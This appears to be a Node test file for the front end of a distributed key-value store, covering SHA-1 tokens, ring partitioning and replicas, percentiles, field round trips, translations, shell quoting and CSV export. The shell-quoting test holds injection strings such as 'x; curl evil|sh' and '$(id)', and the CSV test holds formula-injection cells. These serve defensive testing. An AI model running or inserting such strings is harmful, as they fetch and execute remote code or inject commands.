// The parts that compute: tokens, the ring, percentiles, texts. The TypeScript is bundled first, as for browsers.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { dirname, join } from "node:path";
import { test } from "node:test";
import { fileURLToPath } from "node:url";
import { build } from "esbuild";

const here = dirname(fileURLToPath(import.meta.url));

async function load(contents) {
  const options = { bundle: true, format: "esm", write: false, platform: "node", target: "es2022", jsx: "automatic", jsxImportSource: "preact" };
  const result = await build({ ...options, stdin: { contents, resolveDir: join(here, "../src"), loader: "ts" } });
  return import(`data:text/javascript;base64,${Buffer.from(result.outputFiles[0].contents).toString("base64")}`);
}

const { tokenOf, Ring, partitionOf, gained, ringAt, runsOf, percentile, difference, ticks, en, es, toField, fromField, merged, sameValues, quoted, csv } = await load(`
  export { tokenOf } from "./ring/sha1";
  export { Ring, partitionOf, gained, ringAt, runsOf } from "./ring/ring";
  export { toField, fromField, merged, sameValues } from "./pages/data/draft";
  export { quoted } from "./pages/data/key";
  export { csv } from "./pages/csv";
  export { percentile, difference } from "./node/series";
  export { ticks } from "./parts/ticks";
  export { en } from "./i18n/en";
  export { es } from "./i18n/es";
`);

test("tokens are those of the reference", () => {
  assert.equal(tokenOf("key_2"), "1388ac756f07b0dda2961436ba8596c7b7995e94");
  assert.equal(tokenOf("key_20"), "ba37975d837c55a30658a6b026c5f7937b85262e");
  assert.equal(tokenOf("key_3"), "07ef8d138b76050981f170dd9dd79cae91ea3ce3");
  assert.equal(tokenOf("key_7"), "bf77e5cfde8dd24474e573d765a2c8b31908cbda");
  assert.equal(tokenOf(""), "da39a3ee5e6b4b0d3255bfef95601890afd80709");
  // Around the edges of a block of 64 bytes.
  assert.equal(tokenOf("a".repeat(55)), "c1c8bbdc22796e28c0e15163d20899b65621d65a");
  assert.equal(tokenOf("a".repeat(64)), "0098ba824b5c16427bd7a1122a5a442a25ec644d");
});

const boundary = (partition, bits) => (((partition + 1) << (16 - bits)) & 0xffff).toString(16).padStart(4, "0") + "0".repeat(36);
const member = (id, name, partitions, zone = null) => ({ nodeId: String(id), name, uri: "", zone, weight: 100, tokens: partitions.map((one) => boundary(one, 4)) });

test("a token on a boundary belongs to the partition that it ends", () => {
  assert.equal(partitionOf(boundary(5, 4), 16), 5);
  assert.equal(partitionOf(boundary(15, 4), 16), 15);
  assert.equal(partitionOf("1388ac756f07b0dda2961436ba8596c7b7995e94", 4_096), 0x138);
});

test("the ring is the one of crates/ring", () => {
  const ring = new Ring(16, [member(1, "Ted", [12, 3]), member(2, "Khadijah", [5]), member(3, "Larraine", [6, 9])]);
  const owners = Array.from({ length: 16 }, (_, partition) => Number(ring.members[ring.owner(partition)].nodeId));
  assert.deepEqual(owners, [1, 1, 1, 1, 2, 2, 3, 3, 3, 3, 1, 1, 1, 1, 1, 1]);
  assert.deepEqual(ring.replicas(6, 2), [2, 0]);
  assert.deepEqual(ring.replicas(6, 40), [2, 0, 1]);
  assert.deepEqual(ring.shares(1), [10, 2, 4]);
  assert.equal(ring.runs().reduce((sum, run) => sum + run.length, 0), 16);
});

test("no two copies in one zone while another zone is left", () => {
  const ring = new Ring(16, [member(1, "a", [3], "x"), member(2, "b", [7], "x"), member(3, "c", [11], "y"), member(4, "d", [15])]);
  assert.deepEqual(ring.replicas(0, 2), [0, 2]);
  assert.deepEqual(ring.replicas(0, 3), [0, 2, 3]);
  assert.deepEqual(ring.replicas(0, 4), [0, 2, 3, 1]);
});

test("the ring of each epoch is rebuilt from the history", () => {
  const [ted, ana, bob] = [member(1, "Ted", [3]), member(2, "Ana", [7]), member(3, "Bob", [7])];
  const event = (epoch, type, about) => ({ epoch, timestamp: 0, time: "", type, about });
  const history = [
    event(1, "CREATE", { partitions: 16, n: 1 }), event(2, "ADD", ted), event(3, "ADD", ana), event(4, "BUCKET", { name: "b" }),
    event(5, "REPLACE", { ...bob, old: "2" }), event(6, "REWEIGH", { nodeId: "1", weight: 50, tokens: [boundary(0, 4)] }),
    event(7, "ABORT", { of: 6, by: { type: "REWEIGH", about: { nodeId: "1", weight: 100, tokens: ted.tokens } } }), event(8, "EJECT", { nodeId: "1" }),
  ];
  const names = (epoch) => ringAt(history, epoch, 16).members.map((one) => one.name).join(" ");
  assert.deepEqual([1, 2, 3, 5, 7, 8].map(names), ["", "Ted", "Ted Ana", "Ted Bob", "Ted Bob", "Bob"]);
  assert.deepEqual(ringAt(history, 6, 16).shares(1), [10, 6].map((_, at) => [9, 7][at]));
  assert.deepEqual(ringAt(history, 7, 16).shares(1), ringAt(history, 5, 16).shares(1));
  assert.equal(ringAt([event(1, "ADD", { nodeId: "1", name: "Ted" })], 1, 16), undefined);
  const moved = gained(ringAt(history, 2, 16), ringAt(history, 3, 16), 1);
  assert.deepEqual(moved, [{ member: 1, from: 4, length: 4 }]);
});

test("runs leave out what nobody has", () => {
  assert.deepEqual(runsOf(6, (p) => [1, 1, undefined, 1, 2, 2][p]), [{ member: 1, from: 0, length: 2 }, { member: 1, from: 3, length: 1 }, { member: 2, from: 4, length: 2 }]);
});

test("percentiles lie within their bucket", () => {
  assert.equal(percentile([[1, 0]], 0.5), undefined);
  assert.equal(percentile([[1, 10], [2, 20]], 0.5), 1);
  assert.equal(percentile([[1, 0], [2, 10]], 0.5), 1.5);
  assert.equal(percentile([[1, 90], [10, 90], [Infinity, 100]], 0.99), 10);
});

test("rates are differences, of clients' operations only", () => {
  const stats = (count, errors, buckets) => ({ node: "a", uptime: 1, operations: [{ operation: "get", level: "one", count, errors, buckets }, { operation: "admin", level: "bucket", count: 99 * count, errors: 0, buckets: [] }] });
  const pair = [stats(10, 0, [[0.001, 10]]), stats(30, 2, [[0.001, 20]])];
  assert.deepEqual(difference([pair, pair], 2, 0).rates, { get: 20 });
  const sample = difference([pair], 2, 0);
  assert.deepEqual(sample.rates, { get: 10 });
  assert.deepEqual(sample.errors, { get: 1 });
  assert.equal(sample.latency.p50, 0.001);
});

test("axes have round numbers that reach above the highest value", () => {
  for (const highest of [0.001, 0.3, 1, 7, 11, 99, 1234, 5e6]) {
    const steps = ticks(highest);
    assert.ok(steps.at(-1) >= highest && steps[0] === 0 && steps.length >= 3 && steps.length <= 6, `${highest}: ${steps}`);
  }
});

test("a text field gives back what it was given", () => {
  const bytes = ({ value, value_base64 }) => (value_base64 === undefined ? value : Buffer.from(value_base64, "base64").toString());
  for (const value of ["", "a", "a\nb\n", "a\r\nb\r\n", "a\r\nb\n", "a\rb", "\r", "\n\r", "ñ\r\r\n"]) {
    const field = toField({ value });
    // What browsers make of line ends as soon as somebody types.
    const typed = { ...field, text: field.text.replace(/\r\n?/g, "\n") };
    assert.equal(bytes(fromField(typed)), value, JSON.stringify(value));
  }
  assert.deepEqual(fromField(toField({ value_base64: "/wA=" })), { value_base64: "/wA=" });
});

test("values are merged only if nothing of them is lost", () => {
  assert.deepEqual(merged([{ value: "a", contentType: "x/y", expires: 5 }, { value: "b", contentType: "x/y", expires: 9 }]), { value: "a\nb", contentType: "x/y", expires: 9 });
  assert.deepEqual(merged([{ value: "a", contentType: "x/y", expires: 5 }, { value: "b" }]), { value: "a\nb" });
  assert.deepEqual(merged([{ value: "a\r\n" }, { value: "b" }]), { value: "a\r\n\r\nb" });
  assert.equal(merged([{ value: "a" }, { value_base64: "/w==" }]), undefined);
  assert.equal(merged([{ value: "a\r\n" }, { value: "b\nc" }]), undefined);
});

test("readings differ by value, media type or end, not by order", () => {
  const [a, b] = [{ value: "a" }, { value_base64: "/w==", contentType: "x/y", expires: 5 }];
  assert.ok(sameValues([a, b], [b, { ...a }]));
  for (const other of [[a], [a, a], [a, { ...b, expires: 6 }], [a, { ...b, contentType: undefined }], [{ value_base64: "a" }, b]]) assert.ok(!sameValues([a, b], other));
});

test("words for a shell stay words", () => {
  const words = ["plain", "x; curl evil|sh", "it's", "", "$(id)", "\u0015rm\n", "\\'\u001bA", "ñ \u009b"];
  for (const word of words) assert.equal(execFileSync("bash", ["-c", `printf %s ${quoted(word)}`]).toString(), word);
  // Control characters would be keys that were pressed.
  for (const word of words) assert.ok(!/[\u0000-\u001f\u007f-\u009f]/.test(quoted(word)), word);
});

test("no cell of a CSV file is a formula", () => {
  const rows = [["=1+1", -5, null], ["+x", "@y", "-z"], ["\t=1", "\r=1", 'say "hi", you']];
  assert.equal(csv({ columns: ["=a", "b", "c"], rows }), `'=a,b,c\r\n'=1+1,-5,\r\n'+x,'@y,'-z\r\n'\t=1,"'\r=1","say ""hi"", you"\r\n`);
});

test("both languages say everything", () => {
  assert.deepEqual(Object.keys(es), Object.keys(en));
  for (const [key, text] of Object.entries(en)) {
    const forms = (of) => of.split("|").length;
    const names = (of) => [...new Set(of.match(/\{\w+\}/g) ?? [])].filter((name) => name !== "{n}").sort().join();
    assert.ok(text && es[key], `${key} is empty`);
    assert.equal(forms(es[key]), forms(text), `${key} has other forms`);
    assert.equal(names(es[key]), names(text), `${key} names other things`);
    assert.ok(forms(text) <= 2, key);
  }
});
